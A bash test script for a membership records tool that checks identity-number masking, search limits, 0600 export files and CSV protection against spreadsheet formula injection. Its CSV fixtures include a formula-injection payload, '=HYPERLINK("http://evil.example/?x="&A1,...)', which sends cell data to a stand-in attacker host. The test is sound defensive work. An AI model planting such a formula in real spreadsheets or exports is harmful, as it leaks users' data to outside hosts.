#!/usr/bin/env bash
# privacy.sh: the default view cannot rebuild an identity number, and personal data leaves the
# site only on purpose (issue 11, Privacy).
#
# 1. `member show` without --reveal gives the birth year, never the date (JSON: birth_year, no
#    birth); its masked number (110105********002*) hides the birth digits and the check
#    character, so every day of that year fits what is shown: at least 365 candidates, where the
#    old view (date and check character shown) left exactly one. --reveal gives the date.
# 2. `member find` matches a name, or a whole identity number: never the hidden birth digits, a
#    prefix or the number without its check character.
# 3. `export --out FILE` makes FILE mode 0600 and refuses a FILE that exists (exit 5, naming
#    --force); --force replaces it (still 0600, the old content gone).
# 4. CSV for Excel: a name, place or employer beginning with =, +, - or @ is written after a "'"
#    (no live formula), and `import members` of that file at another site gives the values back
#    unchanged.
# 5. The canary every test runs at its end (lib.sh idno_leaks) finds a full number in a log
#    line, made by make_idno or by anything else, and passes a masked one.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/sync_lib.sh"

sync_site_init a 昆山 320583
sync_site_init b 南京 320100
sync_site_init c 昆山 320583
sync_site_start a
sync_site_start c
for s in a c; do
	sync_pin "$s" b
	assert_exit 0 ld "$s" branch add 001 --name 第一支部 || die "branch add at $s failed"
done

ID=$(make_idno 110105 19491231 002) # 11010519491231002X
MASK=$(mask "$ID")
assert_exit 0 ld a member add --id "$ID" --name 张三 --sex F --birth 1949-12-31 --joined 1970-01-01 \
	--kind full --branch 001 --dues-category retired --income 3000 --phone 13800000000 ||
	die "member add failed"

# ---------------------------------------------------------------------------------------------
log "member show: the birth year, a mask that cannot be rebuilt"
assert_eq "$MASK" "110105********002*" "the masked form of $MASK"
assert_exit 0 ld a --json member show "$ID"
assert_eq "$(jget "$OUT" 'd["id"]')" "$MASK" "member show --json: id"
assert_eq "$(jget "$OUT" 'd["birth_year"]')" 1949 "member show --json: birth_year"
assert_eq "$(jget "$OUT" '"birth" in d')" false "member show --json has no birth date"
assert_not_contains "$OUT" "12-31" "member show --json"
SHOWN=$OUT
# Every number consistent with all that the default view shows.
candidates=$(printf '%s' "$SHOWN" | python3 -c '
import datetime, json, sys
d = json.load(sys.stdin)
W, C = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2], "10X98765432"
mask = d["id"]
years = [d["birth_year"]] if d.get("birth_year") else range(1900, 2027)
n = 0
for y in years:
    day = datetime.date(y, 1, 1)
    while day.year == y:
        if d.get("birth") and d["birth"] != day.isoformat():
            day += datetime.timedelta(days=1)
            continue
        body = mask[:6] + day.strftime("%Y%m%d") + mask[14:17]
        if "*" not in body:
            number = body + C[sum(int(c) * w for c, w in zip(body, W)) % 11]
            if all(m in ("*", c) for m, c in zip(mask, number)):
                n += 1
        day += datetime.timedelta(days=1)
print(n)')
if [ "$candidates" -ge 365 ]; then pass; else
	fail "the default view of member show leaves $candidates candidate number(s); it must leave at least 365"
fi
assert_exit 0 ld a member show "$ID"
assert_not_contains "$OUT" "1949-12-31" "member show (for people)"
assert_contains "$OUT" "1949" "member show (for people): the birth year"
assert_exit 0 ld a --json member show "$ID" --reveal
assert_eq "$(jget "$OUT" 'd["birth"]')" 1949-12-31 "member show --reveal: birth"
assert_eq "$(jget "$OUT" 'd["id"]')" "$ID" "member show --reveal: id"
for cmd in "member list" "member find 张三"; do
	# shellcheck disable=SC2086 # the words of the command
	assert_exit 0 ld a --json $cmd && assert_not_contains "$OUT" "1949-12-31" "$cmd --json"
done

# ---------------------------------------------------------------------------------------------
log "member find: names and whole numbers, never hidden digits"
found() { # TEXT: how many members `member find TEXT` lists
	run ld a --json member find "$1"
	[ "$RC" = 0 ] || fail_run "member find $1 failed"
	jget "$OUT" 'len(d["members"])'
}
assert_eq "$(found "${ID:6:8}")" 0 "member find by the birth digits ${ID:6:8}"
assert_eq "$(found 1231)" 0 "member find by the month and day"
assert_eq "$(found "${ID:0:14}")" 0 "member find by the area code and birth digits"
assert_eq "$(found "${ID:0:17}")" 0 "member find by the number without its check character"
assert_eq "$(found "$ID")" 1 "member find by the whole number"
assert_eq "$(found "${ID:0:17}x")" 1 "member find by the whole number, lower-case x"
assert_eq "$(found 张)" 1 "member find by part of the name"
assert_eq "$(found 13800000000)" 1 "member find by the phone"

# ---------------------------------------------------------------------------------------------
log "export: 0600, never over a file without --force"
umask 022
assert_exit 0 ld a export members --out "$T/a.csv"
assert_eq "$(stat -c %a "$T/a.csv")" 600 "mode of an export file"
sum=$(sha256sum <"$T/a.csv")
assert_exit 5 ld a export members --out "$T/a.csv" && assert_contains "$ERR" "--force" \
	"the refusal to export over a file"
assert_eq "$(sha256sum <"$T/a.csv")" "$sum" "the file after a refused export"
if [ -e "$T/a.csv.part" ]; then fail "a refused export left $T/a.csv.part"; else pass; fi
echo old >"$T/old.json"
chmod 644 "$T/old.json"
assert_exit 5 ld a export members --format json --out "$T/old.json"
assert_eq "$(cat "$T/old.json")" old "a file that was there, after a refused export"
assert_exit 0 ld a export members --format json --out "$T/old.json" --force
assert_eq "$(stat -c %a "$T/old.json")" 600 "mode of a file replaced with --force"
assert_exit 2 ld a export members --force
assert_contains "$ERR" "give --out FILE" "export --force without --out"
assert_eq "$(jget "$(cat "$T/old.json")" 'len(d["members"])')" 1 "members in the replaced file"
assert_exit 0 ld a export certs --out "$T/certs.csv"
assert_eq "$(stat -c %a "$T/certs.csv")" 600 "mode of export certs"

# ---------------------------------------------------------------------------------------------
log "CSV for Excel: formulas neutralized, and imported back unchanged"
F1=$(make_idno 320583 19800101 011)
F2=$(make_idno 320583 19810202 022)
F3=$(make_idno 320583 19820303 033)
NAME1='=HYPERLINK("http://evil.example/?x="&A1,"点我")'
NAME2='@SUM(1+1)'
NAME3="'=1+2" # already begins with a quote: must survive as it is
assert_exit 0 ld a member add --id "$F1" --name "$NAME1" --sex M --birth 1980-01-01 --joined 2000-01-01 \
	--kind full --branch 001 --dues-category student || die "member add F1 failed"
assert_exit 0 ld a member add --id "$F2" --name "$NAME2" --sex F --birth 1981-02-02 --joined 2001-01-01 \
	--kind full --branch 001 --dues-category student --phone +8613912345678 || die "member add F2 failed"
assert_exit 0 ld a member add --id "$F3" --name "$NAME3" --sex M --birth 1982-03-03 --joined 2002-01-01 \
	--kind full --branch 001 --dues-category student || die "member add F3 failed"
assert_exit 0 ld a outflow register "$F1" --to 南京 --place '+南京市' --reason work --from 2026-02-01 \
	--employer '-公司' || die "outflow register F1 failed"
assert_exit 0 ld a export members --out "$T/f.csv" || die "export with formulas failed"
# No cell of the file begins with a formula character (after its opening quote, if quoted).
bad_cells=$(python3 - "$T/f.csv" <<'PYEOF'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], encoding="utf-8-sig", newline="")))
print(" ".join(repr(c) for r in rows for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")))
PYEOF
)
assert_eq "$bad_cells" "" "cells of the CSV that Excel would take for a formula"
assert_contains "$(cat "$T/f.csv")" "\"'=HYPERLINK(" "the neutralized name in the CSV"
assert_exit 0 ld c import members "$T/f.csv" || die "import of the exported file at C failed"
for pair in "$F1|$NAME1" "$F2|$NAME2" "$F3|$NAME3"; do
	id=${pair%%|*} want=${pair#*|}
	assert_exit 0 ld c --json member show "$id" &&
		assert_eq "$(jget "$OUT" 'd["name"]')" "$want" "the name of $(mask "$id") after export and import"
done
assert_exit 0 ld c --json member show "$F1"
assert_eq "$(jget "$OUT" 'd["place"]')" "+南京市" "the place after export and import"
assert_eq "$(jget "$OUT" 'd["employer"]')" "-公司" "the employer after export and import"
assert_exit 0 ld c --json member show "$F2"
assert_eq "$(jget "$OUT" 'd["phone"]')" "+8613912345678" "the phone after export and import"

# ---------------------------------------------------------------------------------------------
log "the canary: a full number in a log is found"
printf 'liudongd: info: member %s added\n' "$MASK" >"$T/probe-masked.txt"
if idno_leaks "$T/probe-masked.txt" >/dev/null; then pass; else fail "the canary flags a masked number"; fi
printf 'liudongd: info: member %s added\n' "$F3" >"$T/probe-made.txt"
if leaks=$(idno_leaks "$T/probe-made.txt"); then
	fail "the canary misses a number make_idno made"
else
	assert_contains "$leaks" "probe-made.txt:1" "the canary's report"
	assert_not_contains "$leaks" "$F3" "the canary's report (masked itself)"
fi
# A number made elsewhere (not by make_idno), inside other text.
printf 'error: row 320102198507010013,x\n' >"$T/probe-other.txt"
if idno_leaks "$T/probe-other.txt" >/dev/null; then fail "the canary misses a number made elsewhere"; else pass; fi
rm -f "$T"/probe-*.txt

finish
